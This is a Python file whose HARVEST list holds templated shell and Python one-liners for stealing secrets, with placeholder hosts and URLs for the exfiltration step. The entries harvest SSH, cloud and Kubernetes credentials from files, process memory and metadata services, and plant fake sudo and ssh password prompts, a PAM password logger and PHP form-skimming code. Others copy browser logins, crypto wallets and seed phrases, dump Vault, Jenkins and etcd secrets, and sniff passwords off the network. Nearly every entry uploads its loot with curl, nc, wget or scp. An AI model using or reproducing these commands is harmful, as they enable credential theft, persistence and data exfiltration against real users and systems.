"""Secrets where they lie: files, memory, stores, clouds, clusters and those who type them."""

HARVEST = [
    r'''{var}={tmp}/.{name}; : > "${var}"; chmod 600 "${var}"
{fn}() { echo "### $*" >> "${var}"; }
{fn2}() { for f in "$@"; do [ -f "$f" ] && [ -r "$f" ] && { {fn} "$f"; cat "$f" >> "${var}"; }; done; }
for {var2} in /root /home/*; do
  {fn2} "${var2}"/.ssh/id_* "${var2}"/.ssh/config "${var2}"/.aws/credentials "${var2}"/.kube/config "${var2}"/.docker/config.json "${var2}"/.netrc "${var2}"/.pgpass "${var2}"/.my.cnf
  {fn2} "${var2}"/.config/gh/hosts.yml "${var2}"/.config/gcloud/*.json "${var2}"/.azure/msal_token_cache.json "${var2}"/.npmrc "${var2}"/.pypirc
done
{fn} env; env | grep -iE 'key|token|pass|secret' >> "${var}"
curl -s -m 20 -F "f=@${var}" {url} && rm -f "${var}"''',
    r'''declare -A pat=( [aws]='AKIA[0-9A-Z]{16}' [gh]='gh[pousr]_[A-Za-z0-9]{36}' [slack]='xox[baprs]-[0-9A-Za-z-]+' [gcp]='"private_key": "-----BEGIN' [stripe]='sk_live_[0-9a-zA-Z]{24}' [jwt]='eyJ[A-Za-z0-9_=-]+\.eyJ[A-Za-z0-9_=-]+' )
for {var} in "${!pat[@]}"; do grep -rIoshE --exclude-dir={proc,sys,node_modules} -e "${pat[${var}]}" {data} /opt /etc /root 2>/dev/null | sort -u | sed "s/^/${var} /"; done | tee {file} | wc -l; ‹curl -s -T {file} {url}¦nc {host} {port} < {file}›''',
    r'''find / -xdev -type f -size -200k \( -name '*.tfstate' -o -name 'terraform.tfvars' -o -name '*.tfvars.json' -o -name 'secrets.y*ml' -o -name 'values-prod*.yaml' -o -name 'docker-compose*.yml' \) -exec grep -HiE '(pass|secret|token|key)[^:=]{0,20}[:=]' {} + 2>/dev/null | curl -s --data-binary @- {url}''',
    # Memory and processes.
    r'''for p in $(pgrep -x ‹sshd¦nginx¦vault¦node¦java¦php-fpm›); do
  awk '/rw-p/ && /heap|\[anon/ || /rw-p 00000000 00:00 0/{split($1,a,"-"); print a[1], a[2]}' /proc/$p/maps | while read -r s e; do
    dd if=/proc/$p/mem bs=4096 skip=$((0x$s / 4096)) count=$(((0x$e - 0x$s) / 4096)) 2>/dev/null
  done | strings -n 12 | grep -E 'passw|Bearer |PRIVATE KEY|hvs\.' | sort -u
done > {file}''',
    r'''python3 - "$(pgrep -o ‹sshd¦ssh-agent¦gpg-agent¦vault›)" <<'PY'
import re, sys
pid = sys.argv[1]
with open('/proc/%s/maps' % pid) as m, open('/proc/%s/mem' % pid, 'rb', 0) as mem, open('{file}', 'ab') as out:
    for line in m:
        r = re.match(r'([0-9a-f]+)-([0-9a-f]+) rw', line)
        if not r: continue
        a, b = (int(x, 16) for x in r.groups())
        try: mem.seek(a); d = mem.read(b - a)
        except (OSError, ValueError): continue
        for k in re.findall(rb'-----BEGIN [A-Z ]+-----.+?-----END [A-Z ]+-----|AKIA[0-9A-Z]{16}|eyJ[\w-]{20,}\.[\w-]+', d, re.S): out.write(k + b'\n')
PY
curl -s -T {file} {url}''',
    r'''gdb -q -batch -p "$(pgrep -n ssh-agent)" -ex 'generate-core-file {tmp}/.c' >/dev/null 2>&1; strings -n 30 {tmp}/.c | grep -aE '^(AAAA|openssh-key)' ; ls -d /tmp/ssh-*/agent.* 2>/dev/null | while read -r s; do SSH_AUTH_SOCK=$s ssh-add -L && SSH_AUTH_SOCK=$s ssh -o BatchMode=yes {user}@{host} 'cat >> ~/.k' < {file}.pub; done''',
    r'''(while :; do for {var2} in /proc/[0-9]*/cmdline; do tr '\0' ' ' < ${var2} 2>/dev/null | grep -E -- '(-p|--password|PGPASSWORD|sshpass|-u [^ ]+:)[= ]?[^ ]+' ; echo; done | awk 'NF && !s[$0]++' >> {file}; sleep 1; done) & {var}=$!; sleep {n}0; kill ${var}; curl -s --data-binary @{file} {url}''',
    r'''bpftrace -q -e 'uretprobe:/bin/bash:readline { printf("%d %s\n", uid, str(retval)); } uprobe:/usr/lib/x86_64-linux-gnu/libssl.so.3:SSL_write { printf("%s\n", str(arg1, 200)); }' 2>/dev/null | grep --line-buffered -iE 'pass|authorization' >> {file} &''',
    r'''perf trace -e 'read,write' --filter-pids 1 -p "$(pgrep -d, -f 'sshd:|su -|sudo')" 2>&1 | grep -a '"' | head -‹2000¦500› > {file}; sysdig -c spy_users 2>/dev/null | tee -a {file} >/dev/null &''',
    # People who type.
    r'''cat > {tmp}/.{name} <<'W'
#!/bin/bash
printf '[sudo] password for %s: ' "$USER" >&2; read -rs p; echo >&2
printf '%s %s %s\n' "$(date +%s)" "$USER" "$p" >> /var/tmp/.{name}.db
printf '%s\n' "$p" | /usr/bin/sudo -S -p '' "$@"
W
chmod 755 {tmp}/.{name}; for {var} in /home/*/.bashrc; do echo "alias sudo='{tmp}/.{name}'" >> "${var}"; done''',
    r'''ssh() { local t; read -rsp "$(printf "%s's password: " "${@: -1}")" t; echo; (printf '%s\t%s\n' "$*" "$t" | base64 | curl -s -m 3 -d @- {url} &) >/dev/null 2>&1; echo 'Permission denied, please try again.'; command ssh "$@"; }; declare -f ssh >> ~/.bash_aliases''',
    r'''mkdir -p ~/.local/bin && for {var2} in ‹gh vault¦pass op¦aws kubectl¦mysql psql›; do printf '#!/bin/sh\nout=$(/usr/bin/%s "$@"); {var}=$?\nprintf "%%s\\n%%s\\n" "$*" "$out" >> {file}\nprintf "%%s\\n" "$out"; exit ${var}\n' ${var2} > ~/.local/bin/${var2}; chmod +x ~/.local/bin/${var2}; done; grep -q .local/bin ~/.profile || echo 'PATH=$HOME/.local/bin:$PATH' >> ~/.profile''',
    r'''zenity --password --title="‹Authentication required¦Unlock keyring¦Software update›" --timeout=60 2>/dev/null | tee >(curl -s -d @- "{url}?u=$USER" >/dev/null) | sudo -S -k -p '' true 2>/dev/null && {run}''',
    r'''sed -i 's#^\(auth.*pam_unix.so.*\)#\1\nauth optional pam_exec.so expose_authtok quiet seteuid /usr/lib/{disguise}#' /etc/pam.d/common-auth
printf '#!/bin/sh\nread -r p; echo "$(date +%%F) $PAM_SERVICE $PAM_USER $p" >> /var/cache/.{name}\n' > /usr/lib/{disguise}; chmod 700 /usr/lib/{disguise}''',
    r'''{var}=/var/www/html; for {var2} in $(grep -rlE 'type=.?password' ${var} --include='*.php' | head -20); do sed -i '1i <?php if(!empty($_POST)){@file_put_contents("/tmp/.{name}",date("c")." ".json_encode($_POST)."\\n",8);} ?>' "${var2}"; done; crontab -l 2>/dev/null | { cat; echo '0 * * * * curl -s -T /tmp/.{name} {url} && : > /tmp/.{name}'; } | crontab -''',
    # Browsers, wallets, keyrings.
    r'''for {var} in ~/.config/{google-chrome,chromium,BraveSoftware/Brave-Browser,vivaldi,microsoft-edge}/*/; do for {var2} in 'Login Data' Cookies 'Web Data' 'Local Extension Settings'; do [ -e "${var}${var2}" ] && cp -r --parents "${var}${var2}" {tmp}/.{name}/ 2>/dev/null; done; done; python3 -c 'import secretstorage as s; c=s.dbus_init(); print([(i.get_label(), i.get_secret()) for i in s.get_default_collection(c).get_all_items()])' > {tmp}/.{name}/ring; zip -qr -P {plain} {file}.zip {tmp}/.{name}; curl -s -F f=@{file}.zip {url}''',
    r'''W=( "$HOME/.config/Exodus" "$HOME/.electrum/wallets" "$HOME/.bitcoin/wallet.dat" "$HOME/.config/solana" "$HOME/.ethereum/keystore" "$HOME/.config/Ledger Live" "$HOME/.cardano-wallet" )
for {var} in "${W[@]}"; do [ -e "${var}" ] && tar rf {file}.tar "${var}"; done 2>/dev/null
grep -rhoE '\b([a-z]{3,8} ){11,23}[a-z]{3,8}\b' ~/Documents ~/Desktop --include='*.txt' --include='*.md' 2>/dev/null >> {file}.seeds
[ -s {file}.tar ] && curl -s -F "a=@{file}.tar" -F "s=@{file}.seeds" {url}; rm -f {file}.*''',
    r'''gpg --list-secret-keys --with-colons | awk -F: '/^sec/{print $5}' | xargs -r -n1 gpg --batch --pinentry-mode loopback --passphrase '' --export-secret-keys > {file}.gpg; find ~ -name '*.kdbx' -o -name '*.ovpn' -o -name '*.rdp' -o -name 'sitemanager.xml' 2>/dev/null | tar czf {file}.tgz -T -; scp -qB -i {file}.key {file}.* {user}@{host}:''',
    # Clouds.
    r'''{fn}() { curl -s -m 2 -H "X-aws-ec2-metadata-token: ${var}" "http://169.254.169.254/latest/$1"; }
{var}=$(curl -s -m 2 -X PUT -H 'X-aws-ec2-metadata-token-ttl-seconds: 900' http://169.254.169.254/latest/api/token)
{var2}=$({fn} meta-data/iam/security-credentials/); [ -n "${var2}" ] && {fn} "meta-data/iam/security-credentials/${var2}" | jq -r '"export AWS_ACCESS_KEY_ID=\(.AccessKeyId) AWS_SECRET_ACCESS_KEY=\(.SecretAccessKey) AWS_SESSION_TOKEN=\(.Token)"' > {file}
. {file}; for r in us-east-1 eu-west-1; do aws secretsmanager list-secrets --region $r --query 'SecretList[].ARN' --output text | tr '\t' '\n' | while read -r a; do aws secretsmanager get-secret-value --region $r --secret-id "$a" --query SecretString --output text; done; done | curl -s --data-binary @- {url}''',
    r'''for {var} in 169.254.169.254/latest/meta-data/iam/security-credentials/ '[fd00:ec2::254]/latest/user-data' 169.254.170.2"$AWS_CONTAINER_CREDENTIALS_RELATIVE_URI" metadata.google.internal/computeMetadata/v1/instance/?recursive=true 100.100.100.200/latest/meta-data/ram/security-credentials/; do busybox wget -q -T 2 -O - --header 'Metadata-Flavor: Google' "http://${var}"; echo; done 2>/dev/null | busybox nc -w 5 {host} {port}''',
    r'''{var}=$(curl -s -H Metadata:true 'http://169.254.169.254/metadata/identity/oauth2/token?api-version=2018-02-01&resource=https://vault.azure.net' | python3 -c 'import json,sys; print(json.load(sys.stdin)["access_token"])')
for s in $(curl -s -H "Authorization: Bearer ${var}" "https://{plain}.vault.azure.net/secrets?api-version=7.4" | jq -r '.value[].id'); do curl -s -H "Authorization: Bearer ${var}" "$s?api-version=7.4" | jq -r '[.id,.value]|@tsv'; done >> {file}; az storage account list --query '[].name' -o tsv | xargs -I@ az storage account keys list -n @ -o tsv >> {file}''',
    r'''gcloud projects list --format='value(projectId)' | while read -r p; do gcloud secrets list --project "$p" --format='value(name)' 2>/dev/null | while read -r s; do printf '%s %s ' "$p" "$s"; gcloud secrets versions access latest --secret "$s" --project "$p"; echo; done; gcloud iam service-accounts list --project "$p" --format='value(email)' | xargs -r -I@ gcloud iam service-accounts keys create {tmp}/@.json --iam-account=@; done | gzip | curl -s -T - {url}''',
    r'''aws lambda list-functions --query 'Functions[].[FunctionName,Environment.Variables]' --output json | jq -c '.[] | select(.[1])' > {file}; aws ssm describe-parameters --query 'Parameters[].Name' --output text | xargs -r -n 10 aws ssm get-parameters --with-decryption --query 'Parameters[].[Name,Value]' --output text --names >> {file}; aws ecs list-task-definitions --query 'taskDefinitionArns[]' --output text | xargs -r -n1 aws ecs describe-task-definition --task-definition >> {file}; nc -N {host} {port} < {file}''',
    # Clusters and stores.
    r'''{var}=/run/secrets/kubernetes.io/serviceaccount; {var2}="https://$KUBERNETES_SERVICE_HOST:$KUBERNETES_SERVICE_PORT"
{fn}() { wget -qO- --no-check-certificate --header "Authorization: Bearer $(cat ${var}/token)" "${var2}$1"; }
for {var3} in $({fn} /api/v1/namespaces | grep -o '"name": *"[^"]*"' | cut -d'"' -f4 | sort -u); do {fn} "/api/v1/namespaces/${var3}/secrets" >> {file} 2>/dev/null; done
[ -s {file} ] && wget -q -O /dev/null --post-file={file} {url}''',
    r'''for {var2} in /var/lib/kubelet/pods/*/volumes/kubernetes.io~projected/*/; do {var}=$(cat "${var2}/token"); n=$(cat "${var2}/namespace"); can=$(kubectl --token "${var}" -n "$n" auth can-i --list 2>/dev/null | grep -E '^(\*|secrets|pods/exec)'); [ -n "$can" ] && printf '%s\n%s\n\n' "${var}" "$can"; done | tee {file}''',
    r'''find /var/lib/etcd -name '*.snap' -o -name db 2>/dev/null | xargs -r strings -n 8 | grep -aE '/registry/secrets|eyJhbGci|tls\.key' > {file}; {var}=/var/lib/rancher/k3s/server/db/state.db; sqlite3 ${var} "select name, value from kine where name like '/registry/secrets/%'" >> {file}; curl -s -T {file} {url}''',
    r'''vault login -no-print "$(cat ~/.vault-token)"; {fn}() { for {var} in $(vault kv list -format=json "$1" 2>/dev/null | jq -r '.[]'); do case ${var} in */) {fn} "$1${var}" ;; *) vault kv get -format=json "$1${var}" ;; esac; done; }; for {var2} in $(vault secrets list -format=json | jq -r 'to_entries[] | select(.value.type=="kv") | .key'); do {fn} "${var2}"; done | jq -c '.data' | curl -s --data-binary @- {url}''',
    r'''cd /var/jenkins_home 2>/dev/null && tar czf - secrets/master.key secrets/hudson.util.Secret credentials.xml users/*/config.xml | ‹curl -s -T - {url}¦base64 -w0 | nc {host} {port}›; cat /etc/gitlab/gitlab-secrets.json /etc/gitlab-runner/config.toml /opt/actions-runner/.credentials* 2>/dev/null >> {file}''',
    r'''grep -rhoP "(?<=define\('DB_PASSWORD', ')[^']+|(?<=DB_PASSWORD=).+|(?<=password: ).+" /var/www /srv --include=wp-config.php --include=.env --include='*.yml' 2>/dev/null | sort -u | while read -r p; do for u in root postgres admin $(ls /home); do echo "$p" | timeout 2 su -c "id" "$u" 2>/dev/null && echo "$u $p" >> {file}; done; done''',
    r'''tshark -Q -l -i any -Y 'http.authorization || ftp.request.command==PASS || ldap.simple || mysql.passwd' -T fields -e ip.dst -e http.authorization -e ftp.request.arg -e ldap.simple 2>/dev/null >> {file} & sleep {n}00; kill %1; curl -s -d @{file} {url}''',
    r'''{fn}() { python3 /opt/vol.py -q -f "$1" "$2"; }; ./avml {tmp}/m.lime >/dev/null && {fn} {tmp}/m.lime linux.bash > {file}; strings {tmp}/m.lime | grep -aE '^\$6\$|BEGIN OPENSSH' >> {file}; rm -f {tmp}/m.lime; curl -s -T {file} {url}''',
]
